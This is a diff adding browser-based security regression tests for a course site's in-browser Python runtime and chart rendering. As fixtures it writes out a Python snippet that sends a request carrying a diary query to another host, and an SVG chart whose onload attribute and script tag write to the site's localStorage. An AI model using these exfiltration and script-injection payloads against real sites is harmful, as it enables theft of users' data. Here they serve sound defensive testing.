@@ -202,3 +202,89 @@ def test_deck_from_a_folder_keeps_its_speaker_view_and_drops_the_address(browser
     wait_for(frames[0], "Reveal.getIndices().h === 5")
     assert tab.evaluate("localStorage.getItem('gestolen')") is None
     ctx.close()
+
+
+# --- the in-browser Python runtime ------------------------------------------------------------------------
+
+LEAK = """import js
+verzoek = js.XMLHttpRequest.new()
+verzoek.open("GET", "{url}", False)
+try:
+    verzoek.send()
+    print("verstuurd", verzoek.status)
+except Exception as fout:
+    print("tegengehouden")
+"""
+
+
+def _run_in_runtime(browser, site: str, code: str, then=None) -> str:
+    """Start the runtime on module 4's notebook page under its own policy, run ``code`` in the
+    first editable cell, and return what the cell printed (``then(page, cell)`` runs after)."""
+    ctx = browser.new_context()
+    try:
+        pg = ctx.new_page()
+        pg.goto(f"{site}exercises/m4-gebruikspatroon.html", wait_until="networkidle")
+        pg.get_by_role("button", name="Zelf proberen in je browser").click()
+        wait_for(pg, "document.querySelector('.cursus-oefenen-status') && "
+                     "document.querySelector('.cursus-oefenen-status').textContent.startsWith('Klaar')", timeout=120)
+        cell = pg.locator("div.cell:has(textarea)").first
+        cell.locator("textarea").fill(code)
+        cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").evaluate("n => n.textContent = ''")
+        cell.get_by_role("button", name="Uitvoeren").click()
+        melding = cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").element_handle()
+        wait_for(pg, "(n) => n.textContent.trim() !== ''", melding, timeout=60)
+        if then:
+            then(pg, cell)
+        return melding.text_content() + "\n" + cell.locator(".cell_output").first.inner_text()
+    finally:
+        ctx.close()
+
+
+def test_python_in_the_runtime_cannot_send_to_another_host(browser, site, other_site):
+    """The tester's Python sent the diary to another host: the worker ran without the page's
+    policy. Control: the same request to the site itself goes through, so the code does run."""
+    elders, _folder, asked = other_site
+    out = _run_in_runtime(browser, site, LEAK.format(url=elders + "lek?dagboek=1") + LEAK.format(url=site + "index.html"))
+    assert asked == [], asked
+    assert out.startswith("Klaar") and out.split()[-3:] == ["tegengehouden", "verstuurd", "200"], out
+
+
+HOSTILE_CHART = """class Grafiek:
+    alt = "Een grafiek"
+    def _repr_svg_(self):
+        return ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
+                'onload="localStorage.setItem(\\'gestolen\\', \\'onload\\')">'
+                '<script>localStorage.setItem("gestolen", "script")</script>'
+                '<rect width="40" height="40"/></svg>')
+Grafiek()
+"""
+
+
+def test_a_chart_opened_on_its_own_is_no_page_of_the_site(browser, site):
+    """The tester's chart, opened in its own tab, was a page of the course's origin and its
+    script ran. Now a chart is a data: image, outside every link, and opened on its own it runs
+    nothing that reaches the site's storage."""
+    seen = {}
+
+    def check(pg, cell):
+        img = cell.locator("img.cursus-oefenen-grafiek")
+        wait_for(pg, "(n) => n.querySelector('img.cursus-oefenen-grafiek')", cell.element_handle())
+        src = img.get_attribute("src")
+        seen["src"] = src
+        seen["linked"] = img.evaluate("n => Boolean(n.closest('a[href]'))")
+        assert pg.evaluate("localStorage.getItem('gestolen')") is None    # inside <img> nothing runs
+        tab = pg.context.new_page()
+        try:
+            tab.goto(src)
+        except Exception as error:          # Chromium may refuse a data: address in a tab outright
+            seen["refused"] = str(error)
+        tab.wait_for_timeout(500)
+        seen["stored"] = pg.evaluate("localStorage.getItem('gestolen')")
+        seen["tab_origin"] = tab.evaluate("origin") if "refused" not in seen else None
+        tab.close()
+
+    _run_in_runtime(browser, site, HOSTILE_CHART, check)
+    assert seen["stored"] is None, seen
+    assert seen["tab_origin"] in (None, "null"), seen
+    assert seen["src"].startswith("data:image/svg+xml"), seen["src"][:40]
+    assert seen["linked"] is False
